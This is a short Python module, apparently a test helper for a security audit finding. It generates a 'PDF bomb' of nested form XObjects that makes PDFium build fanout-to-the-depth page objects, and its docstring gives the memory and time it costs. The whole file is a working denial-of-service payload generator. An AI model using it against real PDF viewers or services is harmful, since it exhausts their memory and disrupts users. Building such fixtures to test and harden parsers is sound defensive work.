"""A PDF bomb of nested form XObjects (audit 10, F1): a page draws form ``depth``, which draws
form ``depth - 1`` ``fanout`` times, and so on down to a filled square, so PDFium builds
``fanout ** depth`` page objects while it loads the page. Eight levels are ~3.5 KB and would
take some 100 GB; six took 23 s and 1.8 GB."""

from __future__ import annotations

FIRST_FORM = 5  # objects 1 to 4: catalog, page tree, page, page content


def nested_forms_pdf(depth: int, fanout: int = 10) -> bytes:
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /XObject << /F %d 0 R >> >> >>" % (FIRST_FORM + depth),
        4: _stream(b"", b"q /F Do Q"),
    }
    for level in range(depth + 1):
        number = FIRST_FORM + level
        if level == 0:
            content, resources = b"0 0 0 rg 0 0 1 1 re f", b""
        else:
            content = b" ".join([b"q 1 0 0 1 0 0 cm /F Do Q"] * fanout)
            resources = b"/Resources << /XObject << /F %d 0 R >> >> " % (number - 1)
        form = b"/Type /XObject /Subtype /Form /BBox [0 0 612 792] " + resources
        objects[number] = _stream(form, content)
    out = bytearray(b"%PDF-1.4\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, objects[number])
    start = len(out)
    count = max(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % count
    out += b"".join(b"%010d 00000 n \n" % offsets[number] for number in range(1, count))
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (count, start)
    return bytes(out)


def _stream(dictionary: bytes, content: bytes) -> bytes:
    return b"<< %s/Length %d >>\nstream\n%s\nendstream" % (dictionary, len(content), content)
